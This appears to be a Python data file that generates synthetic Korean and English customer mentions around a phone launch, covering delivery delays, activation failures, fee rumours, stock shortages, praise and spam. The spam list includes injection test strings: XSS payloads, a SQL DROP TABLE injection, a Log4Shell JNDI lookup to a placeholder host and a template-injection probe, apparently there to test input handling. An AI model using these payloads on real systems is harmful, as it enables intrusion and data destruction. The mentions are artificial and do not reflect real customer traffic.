    "coupon wallet is empty. when do pre-order coupons land?",
    "app or website - where am I supposed to register the gift?",
    "event page and FAQ say different deadlines. which one is right",
]
REG_EXTRA_KO = [
    "마감 지나면 안 되잖아요", "안내가 너무 불친절해요", "페이지 찾는 데만 20분 걸림",
    "사은품 때문에 예약한 건데", "공지 링크 하나만 주세요", "앱도 웹도 다 해봤어요",
    "예약 확인 문자는 있어요",
]
REG_EXTRA_EN = [
    "the gift was half the reason I pre-ordered", "tried both app and website",
    "please just share the right link",
]

# ---------------------------------------------------------------- stock
STOCK_KO = [
    ("{store} 갔는데 재고 없대요", 1.0, 12.1),
    "512GB 블루 품절이에요? 온라인도 매장도 다 없네",
    "근처 매장 재고 확인할 수 있는 방법 있나요",
    "{color} {cap} 있는 매장 아시는 분",
    ("오픈런 했는데 앞에서 끊겼어요 ㅠ", 1.0, 12.1),
    ("매장 직원분이 다음 주 입고라는데 언제쯤인가요", 1.0, 12.1),
    "울트라 1TB는 아예 안 들어왔다는데 맞아요?",
    "현장 구매 가능한 매장 목록 좀 올려주세요",
    ("블랙만 있고 다른 색은 전부 없대요", 1.0, 12.1),
    "예약 안 한 사람은 오늘 못 사는 건가요",
    ("매장마다 말이 다 달라요 본사에서 정리 좀", 1.0, 12.1),
    "{store} 10시 오픈인데 9시부터 줄 서있어요. 물량 몇 대예요?",
    ("512 블루 사려고 매장 세 군데 돌았는데 전멸", 1.0, 12.1),
    ("전시폰만 있고 판매용은 없대요 ㅋㅋ", 1.0, 12.1),
    "{color} 색상은 언제 다시 들어와요?",
    "재입고 알림 신청 같은 거 없나요",
    ("{store} 직원분이 256만 있고 512는 아예 배정이 안 됐대요", 1.0, 12.1),
    "온라인은 품절인데 매장엔 있을 수도 있나요?",
    "{cap} {color} 조합 재고 있는 곳 제보 부탁",
    "오늘 사서 오늘 들고 갈 수 있는 데가 있긴 해요?",
    "매장 재고 조회 페이지가 전부 '문의'로만 나와요",
    ("지방은 물량이 아예 없는 거 같아요. {store}도 없대요", 1.0, 12.1),
    "프로 모델 {color} 찾는데 다 없다네요",
    ("매장 가서 주문하면 택배로 보내준다는데 그럼 매장 간 의미가..", 1.0, 12.1),
    ("동네 대리점은 있다는데 직영점은 없대요. 이게 말이 돼요?", 1.0, 12.1),
    "울트라는 전 색상 품절인가요?",
    ("재고 있다고 해서 갔더니 방금 나갔대요", 1.0, 12.1),
    "예약 물량이랑 현장 물량 따로 있는 거 맞죠? 현장 물량은 몇 대예요",
    "{store} 오후 입고 예정이라는데 몇 시쯤인지 아세요?",
    "색상 고르는 게 아니라 남은 거 사는 상황이네요",
    "512GB는 다 빠졌고 1TB만 남았다는데 가격 차이가..",
    "다음 입고 일정 공지 계획 있나요",
    "매장 전화가 안 돼서 재고 확인을 못 하겠어요",
    "실버는 넉넉하다던데 실버밖에 없으면 그냥 실버 사야죠 뭐",
    ("R&D용으로 물량 다 빼간 거 아니죠? ㅋㅋ 매장마다 텅텅", 1.0, 12.1),
    ("<품절> 안내문 붙은 매장만 벌써 세 군데째", 1.0, 12.1),
]
STOCK_EN = [
    "Any store in Seoul with the 512GB blue in stock?",
    ("went to the {store_en} store, sold out of everything except black", 1.0, 12.1),
    "when will stores get more Ultra units?",
    "is there a way to check store inventory online?",
    "512GB blue seems sold out everywhere, restock date?",
    ("queued since 8am and they ran out 10 people ahead of me", 1.0, 12.1),
    ("store says only display units left lol", 1.0, 12.1),
    "which stores still have the {color_en} {cap}?",
    "can walk-in customers buy today or is it pre-order only",
    "the inventory checker says 'call store' for every store",
    "no Pro units at all in Busan?",
    "staff said next shipment is next week. any exact date?",
]
STOCK_EXTRA_KO = [
    "헛걸음만 세 번째", "차 타고 30분 왔는데", "줄이 엄청 길어요", "다른 색도 괜찮아요",
    "오늘 꼭 사야 돼서요",
]
STOCK_EXTRA_EN = ["drove 40 minutes for this", "any colour is fine at this point"]

# ---------------------------------------------------------------- praise
PRAISE_KO = [
    "빠른 답변 감사합니다 덕분에 해결했어요",
    ("{store} 직원분 진짜 친절하셨어요. 개통 끝까지 도와주심", 1.0, 12.1),
    "언박싱 완료 ㅠㅠ 색감 미쳤다",
    "DM으로 상담해주신 분 감사해요. 바로 처리됐어요",
    ("공지 올려주셔서 좀 안심됐어요", 9.5, 12.1),
    ("힘든 날일 텐데 응대해주시는 분들 고생 많으세요", 1.75, 12.1),
    ("기사님 이 와중에 비 맞으면서 가져다주셨어요. 감사합니다", 1.75, 12.1),
    ("매장 직원분이 데이터 옮기는 것까지 다 해주셨어요 최고", 1.0, 12.1),
    "답변 빨라서 놀랐어요. 감사합니다!",
    ("솔직히 욕하려고 들어왔는데 답변 친절해서 그냥 감사하다고 하고 갑니다", 1.75, 12.1),
    "설명 깔끔하게 해주셔서 이해됐어요 고마워요",
    ("오늘 같은 날 상담원분들 진짜 고생 많으세요 🙏", 1.75, 12.1),
    "이렇게까지 챙겨주실 줄 몰랐네요. 감동",
    "카메라 진짜 좋네요. 기다린 보람 있음",
    "안내대로 하니까 바로 됐어요! 감사해요",
    ("{store} 점장님 센스 최고였습니다", 1.0, 12.1),
    ("문제는 많았지만 대응해주신 분은 정말 친절했어요", 1.75, 12.1),
    "화면 너무 예뻐요 {color} 고르길 잘했다",
    *W(NOTICE,
       "공지 보니까 상황이 이해되네요. 처리해주시는 분들 힘내세요",
       "보상 안내까지 해주셔서 화가 좀 풀렸어요",
       "저녁에라도 받았어요 늦었지만 감사합니다",
       "개통 드디어 됐네요! 끝까지 챙겨주셔서 감사합니다",
    ),
]
PRAISE_EN = [
    "thanks for the quick reply, all sorted now",
    ("shoutout to the staff at the {store_en} store, super helpful", 1.0, 12.1),
    "unboxed my {model_en} this morning and wow",
    ("came here to complain, left impressed. thanks for the help", 1.75, 12.1),
    "the agent who handled my DM was fantastic",
    ("props to the courier who delivered in the rain", 1.75, 12.1),
    "clear answer, problem solved. appreciate it",
    ("the store staff fixed everything in 10 min. thank you!! شكرا جزيلا 🙏", 1.0, 12.1),
    *W(NOTICE,
       "the notice helped a lot, thanks for being transparent",
       "finally got it this evening. thanks for sticking with us",
    ),
]

# ---------------------------------------------------------------- spam / noise
# (text, lang)
SPAM_ITEMS = [
    ("🚀 $NOVA 코인 프리세일 오픈! 100배 확정 👉 {url}", "ko"),
    ("🚀🚀 NOVACOIN presale is LIVE. 100x guaranteed, don't miss out {url}", "en"),
    ("맞팔해요 선팔하면 맞팔 100%", "ko"),
    ("follow for follow, I follow back everyone 💯", "en"),
    ("노바9 전용 케이스 50% 할인 오늘만!! {url}", "ko"),
    ("Cheap phone cases ship worldwide ✈️ {url}", "en"),
    ("노바9 카메라로 우리 집 고양이 찍으면 고양이가 더 귀여워지나요", "ko"),
    ("오늘 점심 뭐 먹지", "ko"),
    ("야구 보러 갈 사람 ㅋㅋ", "ko"),
    ("🔥🔥🔥", "und"),
    ("👀", "und"),
    ("😂😂😂😂", "und"),
    ("ㅋㅋㅋㅋㅋㅋㅋㅋㅋ", "ko"),
    ("1등", "ko"),
    ("테스트", "ko"),
    ("<script>alert(1)</script>", "und"),
    ("<img src=x onerror=alert(1)>", "und"),
    ("부업으로 하루 30만원 벌기 DM 주세요 💰💰", "ko"),
    ("earn $500/day from home!!! DM me 💸", "en"),
    ("이 계정 봇이죠? ㅋㅋ", "ko"),
    ("누가 트위터 알고리즘 좀 고쳐줘", "ko"),
    ("📱➡️🗑️", "und"),
    ("🙃🙃", "und"),
    ("🤡", "und"),
    ("🧑‍💻☕☕☕", "und"),
    ("🏳️‍🌈✨💜", "und"),
    ("👨‍👩‍👧❤️🏠", "und"),
    ("오늘 날씨 진짜 좋다 ☀️", "ko"),
    ("배고프다", "ko"),
    ("노바9보다 우리 강아지가 더 귀여움 🐶", "ko"),
    ("anyone watching the game tonight?", "en"),
    ("ratio", "en"),
    ("무료 웹툰 보는 법 알려드림 {url}", "ko"),
    ("FREE iPhone giveaway!! RT + follow to win 🎁 {url}", "en"),
    ("이 멘션 보는 사람 오늘 행운 옴 🍀", "ko"),
    ("<b>bold</b> test lol", "en"),
    ("\" onmouseover=\"alert('x')", "und"),
    ("'; DROP TABLE mentions; --", "und"),
    ("${jndi:ldap://example.invalid/a}", "und"),
    ("{{7*7}}", "und"),
    ("시끄러워요 다들 ㅋㅋ", "ko"),
    ("이 계정 알림 켜놨더니 폰이 불남 🔥", "ko"),
    ("ㅎㅇ", "ko"),
    ("나만 배고파?", "ko"),
    ("월 천 버는 비법 공개 -> {url}", "ko"),
    ("💎🙌 hodl", "en"),
    ("브랜드 협찬 문의 DM", "ko"),
    ("오늘도 트위터 하는 나 칭찬해", "ko"),
    ("first", "en"),
    ("lmaooo this thread 💀💀", "en"),
    ("🫠🫠🫠", "und"),
    ("🍗🍺", "und"),
    ("ㅇㅅㅇ", "ko"),
    ("a&b<c>d", "und"),
    ("이 짤 어디서 나온 거예요? {url}", "ko"),
    ("K-POP 굿즈 공구합니다 {url}", "ko"),
    ("주식 리딩방 무료 입장 {url}", "ko"),
    ("who else is bored lol", "en"),
    ("dm me for cheap followers 📈", "en"),
    ("🐈‍⬛🐈‍⬛", "und"),
    ("👍🏿👍🏾👍🏽👍🏼👍🏻", "und"),
    ("ㅁㄴㅇㄹ", "ko"),
    ("아무 말 대잔치 시작", "ko"),
    ("새벽 감성 🌙", "ko"),
    ("우리 엄마 노바9 사진 보내달래 ㅋㅋ 아직 안 샀는데", "ko"),
    ("나 오늘 생일임 🎂 축하해줘", "ko"),
    ("this account's social media manager deserves a raise lol", "en"),
    ("공식계정 귀엽다 ㅋㅋ 아무 의미 없음", "ko"),
    ("노바 10은 언제 나와요? ㅋㅋ", "ko"),
    ("🎰 온라인 카지노 가입 즉시 5만 포인트 {url}", "ko"),
    ("✅ Verified crypto signals, join our channel {url}", "en"),
    ("인스타 맞팔 구해요 @somebody_insta", "ko"),
    ("&&&&", "und"),
    ("<<<>>>", "und"),
    ("😀😃😄😁😆", "und"),
    ("ㅋ", "ko"),
]

# ---------------------------------------------------------------- customer centre
CC_KO = [
    "제 주문번호 {order}인데 배송지 주소 {addr}로 바꿔주세요",
    "DM 드렸어요 확인 부탁드립니다",
    "이번 달 요금이 두 번 빠져나갔어요. 명의자 {name}, {phone}",
    "블루 주문했는데 블랙이 왔어요. 주문번호 {order}",
    "환불 요청드립니다. 단순변심이고 미개봉이에요 ({order})",
    "제 명의로 모르는 회선이 개통돼 있어요. DM 드릴게요",
    "주문 취소하고 싶은데 버튼이 없어요. 주문번호 {order}",
    "{name} / {phone} 연락 부탁드립니다. 전화가 안 돼서요",
    "DM 보냈는데 답이 없어서 여기 남겨요",
    "제 계정 로그인이 안 돼요. 아이디 {email}",
    "카드 결제 취소가 아직 안 됐어요. 취소 접수번호 {ticket}",
    "256 주문했는데 512가 왔어요 ㅋㅋ 돌려드려야죠? 주문번호 {order}",
    "상자 열었더니 충전기가 없어요. 주문번호 {order}",
    "액정에 스크래치 있는 제품이 왔어요. 교환 요청합니다 {order}",
    "결제는 두 번 됐는데 주문은 하나만 조회돼요",
    "주문자 이름이 잘못 들어갔어요. 맞는 이름은 {name}입니다. 수정 부탁드려요",
    "배송지를 회사에서 집으로 바꾸고 싶어요 {order} / {addr}",
    "할부 개월 수 잘못 선택했어요 변경 가능한가요? 주문번호 {order}",
    "제 주문 건 상담원 연결 부탁드려요. DM 열어뒀습니다",
    "미성년자 자녀 명의 개통 건으로 문의드릴 게 있어요. DM 확인 부탁해요",
    "포인트 차감됐는데 결제는 전액 됐어요. 회원번호는 DM으로 보낼게요",
    "제 휴대폰 번호가 다른 사람 번호랑 바뀌어서 등록된 것 같아요",
    "기존 폰 반납 프로그램 신청했는데 수거 일정이 안 잡혀요. {order}",
    "청구서에 제가 가입 안 한 부가서비스가 있어요. 명의 {name}",
    "주문번호 {order} 취소 접수됐다는데 환불이 안 들어왔어요",
    "아버지 폰을 제 명의로 주문했는데 명의 변경하려면 어떻게 해요? DM 드렸어요",
    "제 주소가 예전 주소로 들어갔어요. {addr}로 부탁드려요",
    "보상판매 견적이랑 실제 금액이 달라요. 접수번호 {ticket}",
    "분실신고 해제가 안 돼요. 본인 확인은 DM으로 할게요",
    "반품 송장 발급해주세요. 주문번호 {order}",
    "두 대 주문했는데 한 대만 왔어요. {order}",
    "DM으로 주문 내역 캡처 보냈어요 답장 부탁드려요",
    "회원정보 수정이 안 돼서 사은품 배송지도 못 바꾸고 있어요. DM 드렸습니다",
    "제 통화내역 확인이 필요한데 여기서 요청하면 되나요? 명의 {name}",
    "자동이체 계좌 바꾸려는데 인증이 계속 실패해요",
    "결제 수단 잘못 선택해서 취소 후 재주문하고 싶어요 {order}",
    "받는 분 {name}, 연락처 {phone} 이렇게 변경해주세요 (주문 {order})",
    "개인정보라 여기엔 못 쓰겠고 DM 확인 좀 해주세요",
    "상담 예약 번호 {ticket}인데 오늘 연락 온다더니 안 왔어요",
    "가족결합 할인이 빠졌어요. 가족 명의 정보는 DM으로 보낼게요",
    "Q&A 페이지엔 주소 변경 방법이 없어서요. 주문 {order}, 새 주소는 DM 드렸어요",
    "주문번호:\t{order}\n요청:\t배송지 변경\n연락처:\t{phone}",
]
CC_EN = [
    "sent you a DM with my order number, please check",
    "order {order}: I received the wrong colour, need an exchange",
    "please change my delivery address, order {order}",
    "I was charged twice for my pre-order, need a refund",
    "need to cancel order {order}, there's no cancel button",
    "my box arrived without the charger. order {order}",
    "can someone from support DM me? it's about my billing",
    "refund for {order} still not processed after cancellation",
    "screen has a scratch out of the box. exchange please, {order}",
    "wrong name on my order, should be {name_en}",
    "DM'd you my account details, please take a look",
    "my account email {email} got locked, can't log in",
    "trade-in quote differs from what I was paid. case {ticket}",
    "ordered 2 units, only 1 arrived. {order}",
    "please call me back re: ticket {ticket}, been waiting all day",
    "there's a line on my account I never opened. DMing you now",
]
CC_EXTRA_KO = [
    "개인정보라 DM으로 드릴게요", "DM 확인 부탁드려요", "빠른 처리 부탁드립니다",
    "캡처도 있어요", "전화는 계속 통화중이에요", "답장은 DM으로 주세요",
]
CC_EXTRA_EN = ["please reply by DM", "screenshots available", "the phone line is always busy"]
CC_FOLLOW_KO = [
    ("DM 드린 지 {hours}시간 됐어요. 확인 부탁드려요", 2.0, 12.1),
    "아까 보낸 DM 아직 안 읽으셨네요",
    "주문번호 {order} 건 다시 문의드립니다",
    "답장 주신다더니 아직이에요",
]
CC_FOLLOW_EN = [
    "no reply to my DM yet",
    "following up on order {order}",
]

# ---------------------------------------------------------------- cross-topic asides
# Appended occasionally to a mention of another category (label stays main topic).
ASIDES_KO = {
    DELIVERY: ["배송도 아직이고요", "택배는 언제 오는지도 모르겠고", "폰은 아직 안 왔지만"],
    ACTIVATION: ["개통도 안 되는데", "개통 오류까지 나서 미치겠는데"],
    FEE: ["유심비 얘기도 도는데", "개통비 소문까지 돌고"],
    REG: ["사은품 등록도 못 했는데", "사후등록은 어디서 하는지도 모르겠고"],
    STOCK: ["매장엔 재고도 없다 하고", "매장 가보니 품절이래요"],
}
ASIDES_EN = {
    DELIVERY: ["and my parcel is still missing", "still no delivery either"],
    ACTIVATION: ["and activation is failing too"],
    FEE: ["plus this SIM fee rumour"],
    REG: ["and the gift registration page is broken"],
    STOCK: ["and stores are sold out"],
}

# ---------------------------------------------------------------- long posts
# (category, lang, window, text). Each is used once.
LONG_POSTS = [
    (DELIVERY, "ko", (2.5, 4.0),
     "@desk_official 긴 글 죄송합니다. 상황 정리해서 남길게요.\n\n"
     "1) 10월 10일 사전예약 1차로 {model} {color} {cap} 주문\n"
     "2) 어제 저녁 '내일 오전 10시 이전 도착 예정' 문자 받음\n"
     "3) 오늘 아침 7시부터 대기. 9시 반까지 출발 알림 없음\n"
     "4) 10시 40분쯤 조회 자체가 안 되기 시작\n"
     "5) {courier} 고객센터 연결 시도 6번, 전부 실패\n"
     "6) 여기 멘션 두 번 남겼는데 '확인 중입니다'만 받음\n\n"
     "저는 오늘 받으려고 연차를 썼고, 오후에는 가족 모임이 있어서 집을 비워야 해요. "
     "최소한 '오늘 안에 오는지 아닌지'만이라도 알려주시면 계획을 세울 수 있을 텐데 그것조차 모르니까 하루가 통째로 날아가는 느낌입니다. "
     "허브 문제라는 얘기는 트위터에서 보고 알았어요. 고객이 공식 안내보다 커뮤니티에서 먼저 알게 되는 게 정상인가요? "
     "기사님들 잘못 아닌 거 압니다. 그러니까 더더욱 회사 차원에서 안내를 해주셔야죠. 답변 기다리겠습니다."),
    (DELIVERY, "ko", (8.5, 10.0),
     "@desk_official 오늘 하루 요약\n"
     "오전: 10시 전에 온대서 기다림\n"
     "점심: 허브 장애라서 늦는대\n"
     "오후: '오늘 중 도착 예정'\n"
     "저녁: '확인 중입니다'\n"
     "지금: 아무 말 없음\n\n"
     "하루 종일 휴대폰 붙잡고 조회 새로고침만 했어요. 이럴 거면 처음부터 '도착 보장' 같은 말을 쓰지 말았어야죠. "
     "저 말고도 같은 동네 분들 다 못 받으셨던데 지역 단위로라도 언제쯤 풀릴지 공지해주세요. 내일이 일요일이라 더 불안합니다 ㅠㅠ"),
    (DELIVERY, "en", (3.0, 6.0),
     "@desk_official Long post, sorry.\n\nI pre-ordered the {model_en} on day one, got a text last night saying "
     "it would arrive before 10am, and stayed home all morning. At ~10:40 the tracking page started throwing errors. "
     "The courier hotline is unreachable, your replies here are copy-paste apologies, and the only real information "
     "I have came from strangers on this app saying a hub went down.\n\nI'm not angry at the drivers. I'm frustrated "
     "that a company this size can't post one honest status update. Is it coming today? Tomorrow? Monday? "
     "Any of those answers would be better than silence. My coworker's summary was 'סבלנות' (patience) - "
     "I'm trying, really."),
    (ACTIVATION, "ko", (5.0, 7.5),
     "@desk_official 개통 관련해서 정리합니다.\n"
     "- 오후 1시 50분: 셀프개통 시작, 본인인증 완료\n"
     "- 2시 05분: '처리 중 오류가 발생했습니다' 첫 번째\n"
     "- 2시 30분: 재시도, 이번엔 '기존 가입 정보 불일치'\n"
     "- 3시: 매장 방문. 매장 전산도 느려서 대기\n"
     "- 3시 40분: 매장에서 번호이동 접수, '처리중'\n"
     "- 지금: 기존 폰 서비스 없음, 새 폰도 서비스 없음\n\n"
     "결과적으로 저는 지금 전화도 문자도 안 되는 상태고, 와이파이 있는 카페에 앉아서 이 글을 쓰고 있어요. "
     "가족들이 연락이 안 된다고 걱정하고 있고, 월요일엔 업무용으로 꼭 써야 합니다. "
     "장애라면 장애라고 공지를 해주시고, 복구 예상 시간이라도 알려주세요. 번호이동 처리 상태를 제가 직접 확인할 방법이 있으면 그것도 알려주시면 좋겠습니다."),
    (ACTIVATION, "en", (5.0, 8.0),
     "@desk_official OK here's the full story because 280 characters isn't enough.\n\n"
     "Received my {model_en} at noon (late, but fine). Started eSIM setup at 1pm. QR code scan -> 'Activating...' -> "
     "fails at 95%. Tried again with a fresh QR from the app: same thing. Then I did the 'transfer from old phone' option, "
     "which removed the eSIM from my old phone and... never installed it on the new one. So now I have two phones and zero "
     "working numbers. Store near me has a 2-hour queue and they told me their system is slow too.\n\nWhat I need: "
     "1) confirmation whether my line is active or not, 2) an ETA for the activation backlog. Thanks."),
    (FEE, "ko", (4.5, 6.5),
     "@desk_official 유심비/개통비 논란 관련해서 질문 정리합니다.\n\n"
     "Q1. 오늘 개통하는 고객에게 유심비 27,500원이 별도로 청구되나요?\n"
     "Q2. eSIM 발급 수수료는 있나요? 있다면 얼마인가요?\n"
     "Q3. 사전예약 안내 페이지의 '유심 무료 제공' 문구는 여전히 유효한가요?\n"
     "Q4. 매장 개통과 온라인 개통의 비용이 다른가요?\n\n"
     "기사 나오고 나서 단톡방, 커뮤니티 할 것 없이 다 이 얘기인데 공식 답변은 하나도 없어서 더 혼란스러워요. "
     "사실이 아니면 아니라고, 사실이면 왜 안내 없이 바뀌었는지 설명해주세요. 답변 캡처해서 공유하겠습니다."),
    (FEE, "en", (4.5, 7.0),
     "@desk_official Trying to be constructive here. There's an article going around claiming a 27,500 won SIM card fee "
     "and a new activation charge starting today. Your pre-order page said the SIM was free. Stores are saying "
     "different things - one told my friend it's 'included', another said 'separate'. Please publish a single clear "
     "notice: is there an extra fee, how much, and who does it apply to (online vs store, USIM vs eSIM, pre-order vs "
     "walk-in). People are cancelling orders over a rumour that you could clear up in one post. {news}"),
    (REG, "ko", (3.0, 9.0),
     "@desk_official 사전예약/사후등록 헷갈리는 분들 많은 것 같아서 저도 질문 남겨요.\n\n"
     "제가 이해한 게 맞는지 확인 부탁드립니다.\n"
     "- 사전예약: 출시 전 예약한 사람 → 개통 후 14일 안에 사은품 신청\n"
     "- 사후등록: 출시 후 구매한 사람 → 별도 페이지에서 등록, 혜택은 일부만?\n\n"
     "근데 저는 사전예약은 했는데 배송이 늦어서 개통을 못 했고, 사은품 신청 페이지는 '개통 이력 없음'이라고 막혀있어요. "
     "이 경우 14일 기준이 어디서부터인지, 사후등록으로 넘어가야 하는 건지 알려주세요. 케이스 쿠폰도 아직 안 들어왔습니다."),
    (CC, "ko", (6.0, 11.0),
     "@desk_official 환불 건으로 문의드립니다. 개인정보가 있어서 자세한 건 DM으로 보냈고 요약만 남겨요.\n\n"
     "- 주문번호: {order}\n"
     "- 문제: 배송 지연으로 주문 취소 → 취소 완료 문자 받음 → 카드 결제는 그대로\n"
     "- 추가로: 같은 시간에 결제가 한 번 더 승인돼서 총 두 건이 빠져나감\n\n"
     "전화 상담은 대기만 50분 하다 끊겼고, 채팅 상담은 '상담 가능 시간이 아닙니다'라고 나와요. "
     "오늘 안에 처리가 어렵다면 최소한 접수가 됐다는 확인이라도 부탁드립니다. DM 확인 부탁드려요."),
    (CC, "en", (6.0, 11.0),
     "@desk_official I've sent a DM with the details, but posting publicly because it's been hours.\n\n"
     "Order {order}: ordered blue 512GB, received black 256GB. Box was sealed, so it's clearly a warehouse mix-up. "
     "I need an exchange, not a refund. I also noticed my billing address on the invoice is someone else's - "
     "that's a privacy problem on your side. Please contact me by DM. Thanks (and شكرا to the one agent who at least "
     "acknowledged my message)."),
    (SPAM, "ko", (0.5, 11.0),
     "@desk_official 여러분 제 얘기 좀 들어보세요\n오늘 제가 아침에 일어나서 커피를 마시려고 했는데 원두가 다 떨어진 거예요. "
     "그래서 편의점에 갔더니 편의점 사장님이 고양이를 키우시는데 그 고양이 이름이 '노바'래요 ㅋㅋㅋ 그래서 생각난 김에 멘션 남깁니다. "
     "아 저는 폰 안 샀어요. 그냥 심심해서요. 다들 좋은 주말 보내세요 🐈‍⬛☕\n\n"
     "(이 글은 아무 문의도 아닙니다)"),
    (DELIVERY, "ko", (10.0, 12.0),
     "@desk_official 공지 봤습니다. 허브 장애로 일부 물량이 내일 배송된다는 거 이해는 해요.\n"
     "근데 오늘 하루 동안 제가 받은 답변이 전부 '죄송합니다, 확인 중입니다'였다는 게 제일 서운해요. "
     "공지를 저녁 6시 반에 올릴 수 있었다면 점심에도 '원인 파악 중, 몇 시에 다시 안내' 정도는 할 수 있지 않았나요? "
     "내일 일요일 배송이 정말 되는지, 된다면 몇 시쯤인지 알려주시면 기다리겠습니다."),
]

# ---------------------------------------------------------------- author names
SURNAMES_KO = ["김", "이", "박", "최", "정", "강", "조", "윤", "장", "임", "한", "오", "서", "신",
               "권", "황", "안", "송", "류", "홍", "전", "고", "문", "양", "손", "배", "백", "허", "남", "노"]
GIVEN_KO = ["민지", "지우", "서연", "현우", "재현", "수진", "유나", "도현", "은지", "태양", "하늘",
            "지수", "예린", "승민", "준호", "경수", "혜리", "소라", "보라", "나리", "다은", "민서",
            "지호", "우진", "상우", "서준", "하윤", "시우", "지민", "채원", "건우", "수아", "예준",
            "윤서", "동현", "미경", "영훈", "정희", "성민", "혜진", "가은", "주원", "태희", "인호"]
GIVEN_ROM = ["minji", "jiwoo", "seoyeon", "hyunwoo", "jaehyun", "sujin", "yuna", "dohyun", "eunji",
             "taeyang", "haneul", "jisoo", "yerin", "seungmin", "junho", "kyungsoo", "hyeri", "sora",
             "bora", "nari", "daeun", "minseo", "jiho", "woojin", "sangwoo", "seojun", "hayoon",
             "siwoo", "jimin", "chaewon", "gunwoo", "sua", "yejun", "yoonseo", "donghyun", "mikyung",
             "younghoon", "junghee", "sungmin", "hyejin", "gaeun", "juwon", "taehee", "inho"]
SURNAMES_ROM = ["kim", "lee", "park", "choi", "jung", "kang", "cho", "yoon", "jang", "lim", "han",
                "oh", "seo", "shin", "kwon", "hwang", "ahn", "song", "ryu", "hong", "jeon", "ko",
                "moon", "yang", "son", "bae", "baek", "heo", "nam", "noh"]
WORDS_EN = ["coffee", "nova", "daily", "moon", "sky", "blue", "tech", "geek", "cat", "dog", "mango",
            "peach", "rainy", "sunny", "night", "owl", "pixel", "byte", "dev", "gamer", "runner",
            "latte", "cloud", "star", "mint", "choco", "panda", "tiger", "lucky", "happy", "lazy",
            "urban", "retro", "neon", "lofi", "vinyl", "soda", "toast", "bunny", "ocean"]
WORDS_ROM = ["ppang", "gguljam", "haru", "nolja", "mukbang", "deokhu", "ssam", "bap", "jjang",
             "saeroi", "malgeum", "doldol", "kkul", "bom", "gaeul", "yeoreum", "gyeoul", "dalbit",
             "sarang", "haengbok", "ttalgi", "podo", "sagwa", "gamja", "goguma", "tteok", "mandu"]
NICKS_KO = ["노바덕후", "택배기다리는사람", "오늘도출근", "개통의신", "얼리어답터", "폰덕", "귀차니즘",
            "주말요정", "퇴근하고싶다", "커피중독", "집순이", "집돌이", "야근전문", "새벽감성",
            "감자칩", "떡볶이러버", "고양이집사", "강아지아빠", "리뷰어K", "테크블로거", "사과농부",
            "바닷가소년", "산책러", "고독한미식가", "민트초코파", "월급루팡", "만년과장", "대학원생",
            "취준생", "군필", "자취생", "육아맘", "캠핑족", "러닝크루", "게임폐인", "기계치",
            "가성비충", "언박싱장인", "데이터부자", "와이파이거지", "배터리광인", "노바존버"]
EN_FIRST = ["Jason", "Emily", "Daniel", "Grace", "Kevin", "Sophie", "Brian", "Hannah", "Chris",
            "Julia", "Ryan", "Olivia", "Andrew", "Mina", "Tom", "Sarah", "David", "Rachel",
            "Alex", "Irene", "Sam", "Joy", "Eric", "Wendy", "Mark", "Lena", "Noah", "Ava"]
NAME_EMOJI = ["🌸", "🍀", "✨", "🐻", "🐱", "🌙", "☕", "🔥", "🎧", "📷", "🍑", "🌊", "💜", "🐰",
              "🇰🇷", "🇺🇸", "🏳️‍🌈", "👩‍💻", "🧑‍🎤", "👨‍👩‍👧", "🫶🏻", "👋🏽", "⚽", "🎮", "🍜"]
